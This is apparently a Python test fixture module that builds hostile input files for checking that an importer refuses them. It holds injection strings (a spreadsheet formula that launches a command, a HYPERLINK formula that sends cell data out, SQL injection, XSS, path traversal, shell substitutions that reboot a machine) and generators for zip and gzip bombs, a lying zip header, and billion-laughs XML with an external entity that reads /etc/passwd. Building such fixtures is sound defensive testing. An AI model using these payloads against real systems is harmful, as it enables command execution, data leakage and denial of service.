"""Files that mean harm, each with the reason for which it has to be refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

NAUGHTY: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    "%0A=1+1",
    '";=1+1;"',
    "'; DROP TABLE report.posting; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "{{7*7}}",
    "$(reboot)",
    "`reboot`",
    "\u202egnp.exe",
    "\x07\x1b[2J",
    "a\x00b",
    "Ｆｕｌｌ",
    "𝒳" * 40,
)
"""Texts that some program, somewhere, would run, cut or show otherwise than they are."""

SHEET: Final = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def workbook(sheet: bytes, shared: bytes = b"", stored_size: int | None = None) -> bytes:
    """A workbook of one sheet, as raw XML; `stored_size` makes the zip lie about how large it is."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/></Types>',
        )
        archive.writestr(
            "xl/workbook.xml",
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared:
            archive.writestr("xl/sharedStrings.xml", shared)
    raw = content.getvalue()
    if stored_size is not None:
        raw = raw.replace(struct.pack("<L", len(sheet)), struct.pack("<L", stored_size))
    return raw


def zip_bomb() -> bytes:
    """A megabyte that unpacks into more than a gigabyte."""
    return workbook(SHEET + b" " * (1 << 30) + b"</worksheet>")


def lying_zip() -> bytes:
    """A sheet of 200 MB that says it has a hundred bytes."""
    return workbook(SHEET + b" " * (200 << 20) + b"</worksheet>", stored_size=100)


def entities() -> bytes:
    """The billion laughs."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "lol">{laughs}<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    )
    body = SHEET.split(b"?>", 1)[1] + b'<sheetData><row r="1"><c r="A1" t="str"><v>&l9;&e;</v></c></row></sheetData>'
    return workbook(head.encode() + body + b"</worksheet>")


def one_huge_cell() -> bytes:
    """A CSV with one cell of 300 MB."""
    return b"decision_id,subject_id,decision,note,decided_by,decided_at\n" + b"x" * (300 << 20) + b"\n"


def many_columns() -> bytes:
    """A header of 100,000 columns."""
    return (",".join(f"c{number}" for number in range(100_000)) + "\n" + "," * 99_999 + "\n").encode()


def nul_bytes() -> bytes:
    return b"decision_id,subject_id,decision,note,decided_by,decided_at\nD\x00,S,push,,o,2026-07-03 12:00:00\n"


def quoted_for_ever() -> bytes:
    """A quotation mark that is never closed, and much behind it."""
    return b'decision_id,subject_id,decision,note,decided_by,decided_at\n"D,S\n' + b"a,b,c,d,e,f\n" * 500_000


def gzip_bomb() -> bytes:
    """A gzip that goes on for a gigabyte and a half."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(1536)) + packer.flush()


HOSTILE_FILES: Final[dict[str, Callable[[], bytes]]] = {
    "decisions/zip_bomb.xlsx": zip_bomb,
    "decisions/lying_zip.xlsx": lying_zip,
    "decisions/entities.xlsx": entities,
    "decisions/huge_cell.csv": one_huge_cell,
    "decisions/many_columns.csv": many_columns,
    "decisions/nul.csv": nul_bytes,
    "decisions/quoted_for_ever.csv": quoted_for_ever,
    "decisions/gzip_bomb.csv.gz": gzip_bomb,
}
